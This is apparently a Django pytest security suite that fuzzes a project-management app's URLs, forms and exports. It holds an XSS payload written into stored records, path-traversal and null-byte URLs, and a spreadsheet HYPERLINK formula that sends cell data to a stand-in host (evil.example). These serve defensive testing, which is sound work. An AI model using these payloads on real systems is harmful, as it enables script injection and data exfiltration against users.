"""Whatever is typed or sent, nobody meets an error of ours, and nothing that was typed is ever run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.db import transaction
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import reverse

from kpis.models import Kpi
from projects.models import Person
from tests.audited import without_contexts
from tests.security.hostile import ALONE, HOSTILE, LISTS
from tests.security.walk_table import bare, rows, writes


@pytest.fixture
def client(sign_in: Callable[[str], tuple[Client, Person]]) -> Client:
    found = sign_in("programme_manager")[0]
    found.raise_request_exception = False
    return found


def answer(ask: Callable[[], Any]) -> int:
    """The status, whatever the request left of its transaction."""
    try:
        with without_contexts(), transaction.atomic():
            return int(ask().status_code)
    except Exception as error:  # an error of the database that the page did not meet itself
        return 500 if "transaction" in str(error).lower() else 599


@pytest.mark.parametrize("address", LISTS)
def test_no_question_in_the_address_breaks_a_page(address: str, client: Client) -> None:
    names = LISTS[address].split()
    tried = [(name, kind, {name: HOSTILE[kind]}) for name in names for kind in ALONE]
    tried += [("all", kind, dict.fromkeys(names, value)) for kind, value in HOSTILE.items()]
    found = [(name, kind, answer(lambda: client.get(address, data))) for name, kind, data in tried]  # noqa: B023
    assert not [f"{name}={kind}: {status}" for name, kind, status in found if status >= 500]


@pytest.mark.parametrize("address", LISTS)
def test_names_said_twice_or_thousands_of_times_break_no_page(address: str, client: Client) -> None:
    names = LISTS[address].split()
    twice = {name: ["1", "<script>", "2025-26"] for name in names}
    assert answer(lambda: client.get(address, twice)) < 500
    assert answer(lambda: client.get(address, {names[0]: ["x"] * 6_000})) < 500
    assert answer(lambda: client.get(f"{address}?{names[0]}[]=1&{names[0]}[a]=2&&==&%&%zz=%00")) < 500


@pytest.mark.parametrize(
    "path",
    [
        "/projects/%00/7/",
        "/projects/%F0%9F%99%82/7/",
        f"/projects/{'x' * 5000}/7/",
        "/projects/2025-26/999999999999/",
        f"/projects/2025-26/{'9' * 5000}/",
        "/projects/2025-26/7/phases/99999999999999999999/",
        "/projects/..%2f..%2fetc/7/",
        "/projects/meetings/9223372036854775808/",
        "/projects/meetings/99999999999999999999/attendance/",
        f"/projects/meetings/{'9' * 5000}/register.xlsx",
        "/kpis/9223372036854775808/",
        f"/kpis/{'9' * 5000}/",
        "/kpis/register.docx",
        "/kpis/appendix-4.pdf%00",
        "/people/2147483648/",
        "/people/9223372036854775807/edit/",
        "/authorities/no-such-place/",
        "/budget/lines/99999999999999999999/",
        "/account/password/reset/key/zzzzzzzzzzzzz-set-password/",
        "/account/password/reset/key/1-%00/",
        "/%00",
        "//",
        "/%ff",
    ],
)
def test_no_address_breaks(path: str, client: Client) -> None:
    assert answer(lambda: client.get(path)) in (200, 301, 302, 400, 404)


def typed_fields(page: Any) -> list[str]:
    """The names of what a form on the page sends, each group of checkboxes once."""
    names = re.findall(r'<(?:input|select|textarea)[^>]* name="([^"]+)"', page.content.decode())
    return sorted(set(names) - {"csrfmiddlewaretoken"})


def one_of_each(names: list[str]) -> list[str]:
    """Of what a form asks again for each record (`state-12`, `state-13`) the first: all others are read by the same."""
    return list({re.sub(r"\d+", "#", name): name for name in reversed(names)}.values())


FORMS = {bare(name): name for name, row in rows().items() if writes(name) and row["programme_manager"] == 200}.values()


@pytest.mark.parametrize("name", FORMS)
def test_nothing_typed_breaks_a_form(name: str, arguments: Any, client: Client) -> None:
    """Each text, number and date in turn, and all of them at once; what the form takes is saved and undone."""
    address = reverse(bare(name), kwargs=arguments(name))
    page = client.get(address)
    good, typed = initial(page), typed_fields(page)
    tried = [(field, kind, {**good, field: HOSTILE[kind]}) for field in one_of_each(typed) for kind in ALONE]
    tried += [("all", kind, {**good, **dict.fromkeys(typed, value)}) for kind, value in HOSTILE.items()]
    found = [(field, kind, undone(lambda: client.post(address, data))) for field, kind, data in tried]  # noqa: B023
    assert not [f"{field}={kind}: {status}" for field, kind, status in found if status >= 500]


def initial(page: Any) -> dict[str, Any]:
    """What the form would send as it opens."""
    form = page.context["form"] if page.context and "form" in page.context else None
    values = {form.add_prefix(name): form[name].value() for name in form.fields} if form else {}
    return {name: value for name, value in values.items() if value not in (None, False)}


class Undo(Exception):
    """Takes back what the request wrote."""


def undone(ask: Callable[[], Any]) -> int:
    status = [599]

    def and_back() -> None:
        with without_contexts(), transaction.atomic():
            status[0] = int(ask().status_code)
            raise Undo

    try:
        and_back()
    except Undo:
        return status[0]
    except Exception:
        return 599
    return status[0]


EVIL = '"><script>alert(1)</script>'
UNSAFE = re.compile(r"<script>alert|javascript:alert", re.IGNORECASE)
PAGES = [name for name, row in rows().items() if row["programme_manager"] == 200 and not name.startswith("account_")]


@pytest.fixture
def evil(db: None, arguments: Any) -> None:
    """Every text of every record says something that a browser would run; written behind the actions' back."""
    from django.apps import apps

    for app in ("projects", "budget", "kpis", "diagnostics"):
        for model in apps.get_app_config(app).get_models():
            for field in model._meta.concrete_fields:
                if field.get_internal_type() in ("CharField", "TextField") and not skipped(model, field):
                    model._base_manager.update(**{field.name: evil_value(model, field)})
    kpi = Kpi.objects.get(**arguments("kpis:kpi_page@managed"))
    kpi.updates.create(position_date="2026-01-01", old_status="not_started", new_status="on_track", note=EVIL)


def evil_value(model: Any, field: Any) -> Any:
    """Each row has its own where no two may say the same."""
    if not any(field.name in getattr(rule, "fields", ()) for rule in model._meta.constraints):
        return EVIL[: field.max_length or None]
    return Concat(Value(EVIL[: field.max_length - 8]), Cast("pk", CharField()))


def skipped(model: Any, field: Any) -> bool:
    named = {"label", "ref", "model", "key", "kind", "side", "stream", "status", "old_status", "new_status", "role"}
    fixed = field.unique or field.choices or field.primary_key or field.name in {"password", "email", "slug"}
    years = "Year" in model.__name__ or "PlanFact" in model.__name__ or "SignIn" in model.__name__
    return bool(fixed or years or (field.name in named - {"label"}) or field.name.startswith("history_"))


@pytest.mark.same_on_every_database
@pytest.mark.parametrize("role", ["programme_manager", "project_manager", "finance"])
def test_nothing_stored_is_run_by_a_browser(role: str, arguments: Any, evil: None, sign_in: Any) -> None:
    client = sign_in(role)[0]
    seen = 0
    files = ("_file", "_export", "_feed", "authority_briefing")
    for name in (name for name in PAGES if rows()[name][role] == 200 and not bare(name).endswith(files)):
        text = client.get(reverse(bare(name), kwargs=arguments(name))).content.decode()
        seen += "&lt;script&gt;alert(1)" in text
        assert not UNSAFE.search(text), f"{name} runs what was stored"
    assert seen > 10


@pytest.mark.same_on_every_database
@pytest.mark.parametrize("address", LISTS)
def test_nothing_asked_is_run_by_a_browser(address: str, client: Client) -> None:
    text = client.get(address, dict.fromkeys(LISTS[address].split(), EVIL)).content
    assert not UNSAFE.search(text.decode(errors="replace"))


FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")"  # fmt: skip
REGISTERS = ("/projects/register", "/kpis/register", "/budget/lines", "/authorities/register", "/projects/frameworks")


@pytest.mark.same_on_every_database
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " ="])
@pytest.mark.parametrize("address", REGISTERS)
def test_a_spreadsheet_runs_nothing(start: str, address: str, client: Client, evil: None) -> None:
    """What begins a formula is written as a text, whoever typed it."""
    from budget.models import BudgetLine
    from projects.models import AuthorityAlias, FrameworkItem, Project

    typed = start + FORMULA[1:]
    Project._base_manager.update(title=typed)
    Person._base_manager.update(name=typed)
    BudgetLine._base_manager.update(label=typed)
    FrameworkItem._base_manager.update(text=typed)
    AuthorityAlias._base_manager.update(name=typed)
    Kpi._base_manager.update(text=typed, note=typed)
    table = list(csv.reader(io.StringIO(client.get(f"{address}.csv").content.decode(), newline="")))
    assert len(table) > 1
    for row in table[1:]:
        assert not [cell for cell in row if re.match(r"[=+@\t\r]|-(?![\d.,]*$)", cell)]
    workbook = zipfile.ZipFile(io.BytesIO(client.get(f"{address}.xlsx").content))
    sheets = [workbook.read(name).decode() for name in workbook.namelist() if "worksheets/sheet" in name]
    assert sheets
    assert not [formula for sheet in sheets for formula in re.findall(r"<f>[^<]*", sheet) if "HYPERLINK" in formula]
